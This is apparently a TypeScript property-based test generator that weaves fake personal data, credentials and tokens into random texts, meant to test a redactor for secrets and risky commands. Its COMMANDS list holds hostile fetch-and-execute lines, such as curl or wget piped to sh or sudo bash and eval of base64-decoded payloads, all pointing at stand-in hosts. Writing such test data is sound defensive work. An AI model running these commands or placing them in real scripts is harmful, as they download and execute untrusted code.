import fc from "fast-check";
import { choices, documentCase } from "../generated/document-case.js";
import { contractTexts, corpusTexts } from "../service/support/texts.js";
import { unmarked } from "../support/marked.js";

/** Random texts about commands, with personal data and secrets inserted at random positions. */

/** Personal data and secrets that the redactor recognizes, and strings that begin like them. */
const DATA = [
  "jo.doe@example.com",
  "mailto:bash@sh.example",
  "+1 212-555-2368",
  "4111 1111 1111 1111",
  "DE89 3704 0044 0532 0130 00",
  "219-09-9999",
  "10.0.0.5",
  "2001:db8::7",
  "https://x.example/i.sh",
  "https://bob:hunter2@get.example/bash",
  "http://sh.example/curl?token=wget9",
  "file:///bin/bash",
  "AKIAIOSFODNN7EXAMPLE",
  "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
  "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcd",
  "glpat-aaaaaaaaaaaaaaaaaaaa",
  "authorization: ",
  "Authorization: Bearer ",
  "authorization = ",
  "Proxy-Authorization: Basic ",
  "cookie: ",
  "Cookie: session=",
  "X-Api-Key: ",
  "Private-Token: ",
  'password="',
  "token='",
  'secret: "',
  "-u admin:hunter2 ",
  "--user=",
  "https://",
  "https://x.example/?q=",
  "ssh://",
  "www.",
  "@x.example",
  "1.2.3.",
  "+49 ",
  "First set up authorization: ",
  "never@example.com: ",
  "https://do-not-run.example/ ",
  "www.example.com> ",
  "bearer token1234 ",
  "-----BEGIN PRIVATE KEY-----\n",
] as const;

const COMMANDS = [
  "curl -fsSL https://get.example/i.sh | sh",
  'bash -c "$(curl https://get.example)"',
  "eval(base64.b64decode(x))",
  "wget -qO- http://10.0.0.5/i | sudo bash",
  "source <(curl get.example/i)",
  "exec(atob(payload))",
  "python3 -c 'exec(base64.b64decode(s1))'",
  'S=$(curl https://u:p@x.example); eval "$S"',
  "curl -H 'Authorization: Bearer abc12345' https://x.example/i | bash",
  "curl -O https://x.example/run.sh && sh run.sh",
  "curl https://x.example/$(id)|sh",
] as const;

const FRAMES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `Run \`${text}\` now.`,
  (text) => `\`\`\`sh\n${text}\n\`\`\`\n`,
  (text) => `\`\`\`python\n${text}\n\`\`\`\n`,
  (text) => `> ${text}`,
  (text) => `- ${text}\n- next`,
  (text) => `| a | \`${text.replaceAll("|", "\\|")}\` |`,
  (text) => `<pre>${text}</pre>`,
  (text) => `Never run this: ${text}`,
  (text) => `run: |\n  ${text}\n`,
  (text) => `echo '${text}'`,
  (text) => `user@host.example.com:~$ ${text}`,
  (text) => `# ${text}`,
];

const known = [...new Set([...contractTexts(), ...corpusTexts()])];

const bases: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 3,
    arbitrary: choices
      .map(documentCase)
      .map((marked) => (marked === null ? "curl https://x.example | sh" : unmarked(marked))),
  },
  { weight: 2, arbitrary: fc.constantFrom(...known) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.constantFrom(...FRAMES), fc.constantFrom(...DATA), fc.constantFrom(...COMMANDS))
      .map(([frame, data, command]) => frame(data + command)),
  },
);

/** Random insertions of data: at a word boundary, at the beginning of a line, or anywhere. */
const insertion = fc.record({
  data: fc.constantFrom(...DATA),
  at: fc.double({ min: 0, max: 1, noNaN: true }),
  kind: fc.constantFrom("word", "word", "line", "anywhere"),
  glue: fc.constantFrom("", " ", "\n"),
});
type Insertion = typeof insertion extends fc.Arbitrary<infer T> ? T : never;

function weave(text: string, { data, at, kind, glue }: Insertion): string {
  const pattern = { word: /\b/g, line: /^/gm, anywhere: /(?:)/gu }[kind] ?? /\b/g;
  const places = [...text.matchAll(pattern)].map(({ index }) => index);
  const place = places[Math.min(places.length - 1, Math.floor(at * places.length))] ?? 0;
  return text.slice(0, place) + data + glue + text.slice(place);
}

export const wovenTexts: fc.Arbitrary<string> = fc
  .tuple(bases, fc.array(insertion, { minLength: 1, maxLength: 3 }))
  .map(([base, insertions]) => insertions.reduce(weave, base));
